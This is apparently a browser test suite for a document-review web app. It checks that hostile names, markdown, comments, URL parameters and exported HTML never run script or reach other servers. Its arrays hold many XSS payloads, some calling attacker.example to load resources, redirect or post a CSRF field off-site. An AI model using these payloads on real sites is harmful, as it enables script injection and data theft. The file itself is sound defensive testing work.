// Names and texts of somebody who means harm, on every page that shows them: no program of theirs
// runs, nothing is asked of another server, no policy of ours has to stop it, and no page breaks.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { Person, Server, draft, launch, must, temporary } from './lib.mjs';

const hit = 'document.title=`hit`';
const names = [
  `<img src=x onerror=${hit}>`,
  `"><script>${hit}</script>`,
  `' autofocus onfocus=${hit} x='`,
  '{{csrf}} {{{main}}} {what} {n}',
  'Donaudampfschifffahrtsgesellschaftskapitänswitwenversicherungsgesellschaft',
];
const own = [
  `<script>${hit}</script>`,
  `<img src=x onerror="${hit}">`,
  `<svg/onload=${hit}>`,
  `[a](javascript:${hit})`,
  '[a](<java\tscript:alert(1)>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  `![a](x"onerror="${hit})`,
  '![a](https://attacker.example/pixel.png)',
  '<style>@import url(https://attacker.example/a.css)</style>',
  '<a href="https://attacker.example/" style="position:fixed;inset:0">over all</a>',
  `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<form action="https://attacker.example/"><input name=csrf><button>Continue</button></form>',
  `[^"><img src=x onerror=${hit}>]: note`,
  '<https://attacker.example/"onmouseover="alert(1)>',
  `&lt;img src=x onerror=${hit}&gt; &#60;script&#62;${hit}&#60;/script&#62;`,
  '# <u id=main>A second heading</u>',
  'W'.repeat(3000),
];

const data = process.env.TEST_DATA ? path.join(process.env.TEST_DATA, 'attacks/xss.json') : '';
const foreign = data && fs.existsSync(data)
  ? JSON.parse(fs.readFileSync(data, 'utf8')).filter((v, i) => v.kind === 'markdown' || i % 4 === 0).map((v) => v.vector).filter((v) => !v.includes('\0'))
  : [];

let s, browser, editor, writers, ed;

before(async () => {
  s = await Server.start({ from: draft });
  browser = await launch();
  editor = s.as(s.token('editor', 'editors', names[0]));
  writers = names.map((n) => s.as(s.token('rapporteur', 'next-generation', n)));
  ed = await Person.invited(browser, s, 'admin', 'editors', { name: names[1] });
});
after(async () => {
  await browser?.close();
  await s?.stop();
});

// The vectors as paragraphs of a text; those that the guard refuses are left out.
async function textOf(title, vectors) {
  let rest = vectors.map((v) => v.replace(/[\r\n]+/g, ' ').trim()).filter(Boolean);
  for (;;) {
    const markdown = `# ${title}\n\n${rest.join('\n\n')}\n`;
    const r = await editor.post('/api/v1/preview', { section: 'taking-stock', lang: 'en', markdown });
    if (r.status === 200) return { markdown, n: rest.length };
    assert.equal(r.status, 422, r.text);
    assert.ok(r.json.line > 2, r.text);
    rest = rest.filter((_, i) => i !== Math.floor((r.json.line - 3) / 2));
  }
}

// What a page of ours never has, wherever it came from.
const foul = () => {
  const out = [];
  if (document.title === 'hit') out.push('a program ran');
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc') out.push(e.outerHTML.slice(0, 200));
    for (const name of ['href', 'src', 'action', 'formaction', 'data', 'xlink:href']) {
      const url = e.getAttribute(name);
      if (url === null) continue;
      const to = new URL(url, location.href);
      const leave = e.matches('a[href]') && ['http:', 'https:', 'mailto:'].includes(to.protocol);
      if (to.origin !== location.origin && !leave) out.push(e.outerHTML.slice(0, 200));
    }
    if (e.matches('iframe, object, embed, base, style, meta[http-equiv], script:not([src])')) out.push(e.outerHTML.slice(0, 200));
  }
  if (document.querySelectorAll('h1').length !== 1) out.push(`${document.querySelectorAll('h1').length} main headings`);
  const ids = [...document.querySelectorAll('[id]')].map((e) => e.id);
  for (const id of ids) if (ids.indexOf(id) !== ids.lastIndexOf(id)) out.push(`twice the id ${id}`);
  return [...new Set(out)];
};

async function walk(person, places) {
  const wrong = [];
  for (const where of places) {
    await person.go(where);
    const found = await person.page.evaluate(foul);
    await person.page.setViewportSize({ width: 360, height: 740 });
    const wide = await person.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    if (wide) found.push(`${wide}px wider than a phone`);
    await person.page.setViewportSize({ width: 1280, height: 800 });
    wrong.push(...[...found, ...person.faults.splice(0)].map((f) => `${where}: ${f}`));
  }
  assert.deepEqual(wrong, []);
}

// Submitted, talked about, accepted; then every page that shows it.
async function story(section, vectors) {
  const { markdown, n } = await textOf('A title <b>with</b> marks & "quotes"', vectors);
  assert.ok(n > vectors.length / 2, `${n} of ${vectors.length} texts are taken`);
  const writer = writers[n % writers.length];
  const p = await writer.submit(section, markdown, { summary: names[1] });
  const t = await writer.want(201, 'POST', '/api/v1/threads', {
    on: { proposal: p.number, revision: 1 }, text: own.slice(0, 8).join('\n'), suggestion: own[1],
  });
  await editor.want(201, 'POST', `/api/v1/threads/${t.id}/comments`, { text: names.join('\n') });
  const views = ['', '?view=new', '?view=main', '?view=old', '/edit'].map((v) => `/app/review/${p.number}${v}`);
  await walk(ed, [...views, '/app/review', `/app/sections/${section}`]);
  assert.equal((await editor.decide(p.number, 'accept')).status, 200);
  await walk(ed, [`/app/review/${p.number}`, '/', `/app/sections/${section}`, `/app/write/${section}?group=next-generation`, '/app/history', '/app/status', '/app/sections', '/app/manage/log']);
  // They are there to be read, on the page of the proposal and in the form: nothing was lost on the way.
  await ed.go(`/app/review/${p.number}`);
  const told = await ed.page.locator('.change-list').innerText();
  const shown = markdown.split('\n\n').filter((v) => told.includes(v.replace(/\*/g, '').trim()));
  assert.ok(shown.length > n / 2, `${shown.length} of ${n}`);
  await ed.go(`/app/write/${section}?group=next-generation`);
  assert.equal(await ed.typed(), markdown.trim());
}

test('our own hostile texts do nothing on any page', async () => {
  await story('from-practice', own);
});

test('and so do those that others have collected', { skip: foreign.length ? false : 'no TEST_DATA/attacks/xss.json' }, async () => {
  for (const [i, section] of ['taking-stock', 'way-to-accountability'].entries())
    await story(section, foreign.filter((_, at) => at % 2 === i));
});

test('names of people, groups, versions and the document are words and nothing else', async () => {
  const doc = await editor.want(200, 'GET', '/api/v1/document');
  doc.manifest.title.en = names[0];
  doc.manifest.subtitle.en = names[2];
  doc.manifest.symbol = names[1];
  doc.manifest.groups[3].name.en = names[3];
  doc.manifest.groups[2].name.en = names[4];
  doc.manifest.event.place.en = names[1];
  doc.manifest.sections[2].guidance = { en: own.slice(0, 4).join('\n\n') };
  await editor.want(200, 'PUT', '/api/v1/document', doc.manifest, { 'if-match': `"${doc.manifest_blob}"` });
  for (const [i, name] of names.entries()) await editor.want(201, 'POST', '/api/v1/versions', { name: `${i} ${name}`.slice(0, 100), symbol: name.slice(0, 100), note: name });
  const versions = (await editor.want(200, 'GET', '/api/v1/versions')).items.map((v) => v.id);
  await walk(ed, ['/', '/app/sections', '/app/write/taking-stock?group=next-generation', '/app/review?status=all', '/app/status', '/app/history',
    `/versions/${versions[0]}`, `/compare/${versions[0]}..main`, '/app/export', '/app/manage', '/app/manage/document', '/app/manage/people', '/app/manage/log', '/app/account', '/i', '/nowhere']);
  assert.ok((await ed.page.title()).includes(names[0]));
});

test('what comes with an address is words, too', async () => {
  const odd = encodeURIComponent(names[1]);
  await walk(ed, [`/nowhere/${odd}`, `/versions/${odd}`, `/?lang=${odd}&hl=${odd}&done=${odd}`, `/app/review?status=${odd}&group=${odd}`, `/app/compare?a=${odd}&b=${odd}`,
    `/app/write/${odd}`, `/app/sections/taking-stock?lang=${odd}`, `/i#${odd}`, '/?done=__proto__', `/app/review/1?view=${odd}`]);
});

test('the HTML file of the document does nothing on a reader\'s machine', async () => {
  const dir = temporary();
  const file = path.join(dir, 'document.html');
  must(['export', s.dir, '--format', 'html', '-o', file]);
  const reader = await Person.arrive(browser, s);
  await reader.page.goto(`file://${file}`);
  assert.notEqual(await reader.page.title(), 'hit');
  const wrong = await reader.page.evaluate(() => [...document.querySelectorAll('script, iframe, object, embed, base, form, [onerror], [onload], [onfocus], a[href^="javascript:" i], a[href^="data:" i]')].map((e) => e.outerHTML.slice(0, 200)));
  assert.deepEqual(wrong, []);
  await reader.leave();
  fs.rmSync(dir, { recursive: true });
});

test('no page did anything that it must not do', () => ed.leave());
